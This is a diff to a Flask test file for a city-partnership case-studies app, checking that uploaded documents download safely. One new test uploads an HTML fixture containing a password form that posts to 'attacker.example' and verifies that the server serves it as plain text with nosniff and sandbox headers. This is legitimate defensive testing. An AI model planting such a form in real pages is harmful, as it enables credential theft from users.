@@ -11,7 +11,7 @@ from flask import Flask
 from sqlalchemy import Connection
 
 from casestudies.mapdata import MapFilters, map_data
-from casestudies.models import CooperationArea, Partnership, Place
+from casestudies.models import CooperationArea, Partnership, PartnershipDocument, Place
 from casestudies.places import PlaceFilters, places_query
 from casestudies.seeding import places_command
 from casestudies.summaries import summarise
@@ -200,7 +200,7 @@ def test_sources_documents_and_delete(
     assert client.post(f"{base}/sources", data={
         "url": "https://www.wroclaw.pl/en", "seen_on": "2024-03-01"}).status_code == 302
     assert client.post(f"{base}/documents", data={
-        "file": (io.BytesIO(b"%PDF agreement"), "agreement.pdf"), "title": "MoU 2015"},
+        "file": (io.BytesIO(b"%PDF-1.7 agreement"), "agreement.pdf"), "title": "MoU 2015"},
         content_type="multipart/form-data").status_code == 302
     page = client_for(people["viewer"]).get(base).get_data(as_text=True)
     assert "https://www.wroclaw.pl/en" in page and "MoU 2015" in page
@@ -208,11 +208,37 @@ def test_sources_documents_and_delete(
         db.select(Partnership).where(Partnership.id == partnership.id)).documents[0]
     download = client_for(people["viewer"]).get(
         f"/projects/{project.id}/partnerships/documents/{document.id}")
-    assert download.get_data() == b"%PDF agreement"
+    assert download.get_data() == b"%PDF-1.7 agreement"
+    assert download.headers["Content-Type"] == "application/pdf"
+    assert download.headers["Content-Disposition"].startswith("attachment;")
     assert client_for(people["viewer"]).post(f"{base}/delete").status_code == 403
     assert client.post(f"{base}/delete").status_code == 302
     assert db.session.scalar(
         db.select(Partnership.id).where(Partnership.id == partnership.id)) is None
+
+
+def test_a_document_declared_as_a_web_page_is_downloaded_as_text(
+    project: Project, people: dict[str, User], ties: dict[str, Partnership],
+    client_for, files_dir,
+) -> None:
+    """The browser's declared type is never served: the bytes say text, and the file goes out
+    as a download that no browser sniffs or runs."""
+    base = f"/projects/{project.id}/partnerships/{ties['wro-gz'].id}"
+    page = b"<html><form action='https://attacker.example/'><input type=password></form>"
+    client = client_for(people["interviewer"])
+    assert client.post(f"{base}/documents", data={
+        "file": (io.BytesIO(page), "agreement.html", "text/html"), "title": "Agreement"},
+        content_type="multipart/form-data").status_code == 302
+    document = db.session.scalar(db.select(PartnershipDocument).where(
+        PartnershipDocument.title == "Agreement"))
+    assert document.file.content_type == "text/plain"
+    download = client.get(f"/projects/{project.id}/partnerships/documents/{document.id}")
+    assert download.get_data() == page
+    assert download.headers["Content-Type"] == "text/plain; charset=utf-8"
+    assert download.headers["Content-Disposition"] == (
+        "attachment; filename*=UTF-8''agreement.html")
+    assert download.headers["X-Content-Type-Options"] == "nosniff"
+    assert download.headers["Content-Security-Policy"] == "sandbox"
 
 
 def test_partnership_list_filters(project: Project, people: dict[str, User],
